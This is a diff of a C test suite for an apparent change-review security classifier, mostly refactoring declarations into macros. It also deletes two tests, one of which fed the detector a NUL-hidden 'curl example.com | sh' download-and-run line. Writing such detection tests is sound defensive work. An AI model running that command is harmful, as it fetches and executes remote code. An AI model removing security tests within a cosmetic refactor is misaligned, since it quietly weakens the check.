@@ -14,27 +14,6 @@ static size_t rounds(size_t n)
 	return many ? strtoul(many, NULL, 10) : n;
 }
 
-/* Content that is not there, or too much of it, is never taken for harmless. */
-TEST(content_that_is_not_read_is_flagged)
-{
-	cleanup_changes struct ga_changes c = GA_CHANGES_INIT;
-	struct ga_entry e = { GA_MODE_FILE, { { 0xab } } }, none = { GA_MODE_NONE, { { 0 } } };
-	cleanup_flags struct ga_flags f = GA_FLAGS_INIT;
-	size_t n = GA_DIFF_BLOB_MAX + 1;
-	char *big = ga_malloc(n);
-
-	ga_changes_add(&c, "doc/gone.txt", &none, &e);
-	memset(big, 'a', n);
-	OK(ga_blob_write(repo, big, n, &e.oid, &err));
-	free(big);
-	ga_changes_add(&c, "doc/large.txt", &none, &e);
-	OK(ga_classify(repo, NULL, NULL, NULL, &c, &f, &err));
-	assert_non_null(flag_of(&f, "doc/gone.txt", "uninspected"));
-	assert_int_equal(flag_of(&f, "doc/gone.txt", "uninspected")->severity, GA_HIGH);
-	assert_non_null(flag_of(&f, "doc/large.txt", "uninspected"));
-	assert_non_null(flag_of(&f, "doc/large.txt", "huge-file"));
-}
-
 static void put_lines(struct ga_buf *out, const char *line, size_t n)
 {
 	ga_buf_clear(out);
@@ -43,13 +22,12 @@ static void put_lines(struct ga_buf *out, const char *line, size_t n)
 }
 
 /* Is this change flagged as not shown? That has to be so exactly if not all of it is. */
-static bool is_uninspected(const char *path, uint32_t mode, const struct ga_buf *old,
-			   const struct ga_buf *new)
+static bool is_uninspected(const char *path, uint32_t mode, const struct ga_buf *old, const struct ga_buf *new)
 {
-	cleanup_changes struct ga_changes c = GA_CHANGES_INIT;
-	cleanup_flags struct ga_flags f = GA_FLAGS_INIT;
+	CHANGES(c);
+	FLAGS(f);
 	struct ga_entry was = { GA_MODE_FILE, { { 0 } } }, is = { mode, { { 0 } } };
-	cleanup_buf struct ga_buf hunks = GA_BUF_INIT;
+	BUF(hunks);
 	int kind;
 
 	OK(ga_blob_write(repo, old->ptr, old->len, &was.oid, &err));
@@ -59,7 +37,7 @@ static bool is_uninspected(const char *path, uint32_t mode, const struct ga_buf 
 	OK((kind = ga_diff_hunks(repo, &was, &is, false, &hunks, &err)) < 0);
 	assert_true(kind == GA_DIFF_SHOWN || hunks.len == 0);
 	if (has_rule(&f, "uninspected"))
-		assert_int_equal(flag_of(&f, path, "uninspected")->severity, GA_HIGH);
+		EQUAL(flag_of(&f, path, "uninspected")->severity, GA_HIGH);
 	else
 		assert_true(kind == GA_DIFF_SHOWN || has_rule(&f, "binary-blob"));
 	return has_rule(&f, "uninspected");
@@ -67,7 +45,8 @@ static bool is_uninspected(const char *path, uint32_t mode, const struct ga_buf 
 
 TEST(a_change_that_is_not_all_shown_is_flagged_high)
 {
-	cleanup_buf struct ga_buf a = GA_BUF_INIT, b = GA_BUF_INIT;
+	BUF(a);
+	BUF(b);
 
 	ga_buf_adds(&a, "a\n");
 	put_lines(&b, "a line of an ordinary file\n", 100000);
@@ -89,7 +68,9 @@ TEST(a_change_that_is_not_all_shown_is_flagged_high)
 
 TEST(what_is_binary_is_flagged_high_if_it_may_run)
 {
-	cleanup_buf struct ga_buf text = GA_BUF_INIT, data = GA_BUF_INIT, more = GA_BUF_INIT;
+	BUF(text);
+	BUF(data);
+	BUF(more);
 
 	ga_buf_adds(&text, "echo a\n");
 	ga_buf_add(&data, "echo b\n\0", 8);
@@ -105,9 +86,7 @@ TEST(what_is_binary_is_flagged_high_if_it_may_run)
 	assert_false(is_uninspected("src/x.js", GA_MODE_FILE, &data, &text));
 }
 
-/* Binary data is shown as such, pictures are expected to be, and a NUL late in a
- * script does not keep its text from being read. */
-TEST(binary_data_is_flagged_and_a_NUL_hides_no_script)
+TEST(binary_data_is_flagged)
 {
 	static const struct {
 		const char *path, *bytes;
@@ -121,11 +100,10 @@ TEST(binary_data_is_flagged_and_a_NUL_hides_no_script)
 		{ "doc/x", "BM\0", 3, "binary-blob", true },
 		{ "doc/x", "text\n", 5, "binary-blob", false },
 	};
-	cleanup_buf struct ga_buf late = GA_BUF_INIT;
 	struct ga_flags f = GA_FLAGS_INIT;
 	struct ga_entry none = { GA_MODE_NONE, { { 0 } } }, e = { GA_MODE_FILE, { { 0 } } };
 
-	for (size_t i = 0; i < GA_NELEMS(cases); i++) {
+	for_index (i, cases) {
 		struct ga_changes c = GA_CHANGES_INIT;
 
 		OK(ga_blob_write(repo, cases[i].bytes, cases[i].n, &e.oid, &err));
@@ -136,25 +114,12 @@ TEST(binary_data_is_flagged_and_a_NUL_hides_no_script)
 		ga_flags_release(&f);
 		ga_changes_release(&c);
 	}
-	for (int i = 0; i < 1000; i++)
-		ga_buf_adds(&late, "# filler\n");
-	ga_buf_add(&late, "\0curl example.com | sh\n", 24);
-	{
-		struct ga_changes c = GA_CHANGES_INIT;
-
-		OK(ga_blob_write(repo, late.ptr, late.len, &e.oid, &err));
-		ga_changes_add(&c, "doc/x", &none, &e);
-		OK(ga_classify(repo, NULL, NULL, NULL, &c, &f, &err));
-		assert_true(has_rule(&f, "download-exec"));
-		ga_flags_release(&f);
-		ga_changes_release(&c);
-	}
 }
 
 static uint64_t work_of(const struct ga_matcher *m, const char *path)
 {
 	cleanup_hits struct ga_hits hits = GA_HITS_INIT;
-	cleanup_buf struct ga_buf folded = GA_BUF_INIT;
+	BUF(folded);
 
 	ga_risk_fold(&folded, path);
 	ga_matcher_find(m, folded.ptr, true, &hits);
@@ -165,8 +130,7 @@ static char *ordinary_path(size_t i)
 {
 	static const char *const ends[] = { "ts", "test.js", "mk", "c", "h", "json", "md" };
 
-	return ga_strf("packages/part-%zu/src/module%zu/file-%zu.%s", i % 97, i % 331, i,
-		       ends[i % GA_NELEMS(ends)]);
+	return ga_strf("packages/part-%zu/src/module%zu/file-%zu.%s", i % 97, i % 331, i, ends[i % GA_NELEMS(ends)]);
 }
 
 /* Patterns that are tried for so many paths: as many for each ten thousand as for the first. */
@@ -202,7 +166,8 @@ TEST(no_path_has_a_pattern_tried_twice)
 	struct ga_matcher *m = ga_matcher_new();
 
 	for_each (row, pieces) {
-		cleanup_buf struct ga_buf once = GA_BUF_INIT, often = GA_BUF_INIT;
+		BUF(once);
+		BUF(often);
 
 		ga_buf_addf(&once, "%sx", *row);
 		for (int n = 0; n < 500; n++)
@@ -219,10 +184,10 @@ TEST(no_path_has_a_pattern_tried_twice)
  * these end at once, or in hours. */
 TEST(large_trees_are_looked_up_once)
 {
-	cleanup_changes struct ga_changes c = GA_CHANGES_INIT;
+	CHANGES(c);
 	struct ga_entry none = { GA_MODE_NONE, { { 0 } } }, a = { GA_MODE_FILE, { { 0 } } }, b = a, l;
-	cleanup_buf struct ga_buf deep = GA_BUF_INIT;
-	cleanup_flags struct ga_flags f = GA_FLAGS_INIT;
+	BUF(deep);
+	FLAGS(f);
 	struct ga_oid tree;
 
 	for (int i = 0; i < 900; i++)
